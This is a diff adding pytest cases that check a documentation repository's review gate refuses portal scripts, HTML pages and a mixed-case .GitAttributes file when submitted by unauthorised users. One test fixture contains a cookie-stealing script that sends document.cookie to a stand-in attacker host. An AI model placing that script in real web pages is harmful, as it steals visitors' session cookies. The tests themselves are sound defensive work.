@@ -142,3 +142,31 @@ def test_portal_page_approved_by_a_publisher_of_another_domain(world: World) -> 
     sha = world.pull_request(lotta, commit(lotta, {"docs/portal/reset.md": internal}))
     result = world.gate(sha, "lottan", ["janbakker"])
     assert_gate_refused(result, "docs/portal/reset.md", rule=r"admin|general|portal")
+
+
+PORTAL_CODE = {
+    "docs/portal/help.html": '<!doctype html><script src="help.js"></script><p>Sign in again</p>\n',
+    "docs/portal/help.js": "fetch('https://evil.example/?c=' + document.cookie)\n",
+}
+
+
+@pytest.mark.parametrize("path", list(PORTAL_CODE))
+def test_portal_script_or_page_approved_by_a_publisher_of_another_domain(
+    world: World, path: str
+) -> None:
+    """MkDocs copies every non-Markdown file of the portal folder to the site as it is: a
+    script or a hand-written page served from the help site's own origin is code."""
+    lotta = world.clone("lotta", origin=world.forge)
+    sha = world.pull_request(lotta, commit(lotta, {path: PORTAL_CODE[path]}))
+    result = world.gate(sha, "lottan", ["janbakker"])
+    assert_gate_refused(result, path, rule=r"admin")
+
+
+def test_gitattributes_in_other_case_approved_by_a_contributor(world: World) -> None:
+    """On a case-insensitive checkout (macOS, Windows) Git reads .GitAttributes as
+    .gitattributes: the admin file names must not depend on case."""
+    path = "articles/network/.GitAttributes"
+    lotta = world.clone("lotta", origin=world.forge)
+    sha = world.pull_request(lotta, commit(lotta, {path: "*.md filter=evil\n"}))
+    result = world.gate(sha, "lottan", ["mvirtanen"])
+    assert_gate_refused(result, path, rule=r"admin")
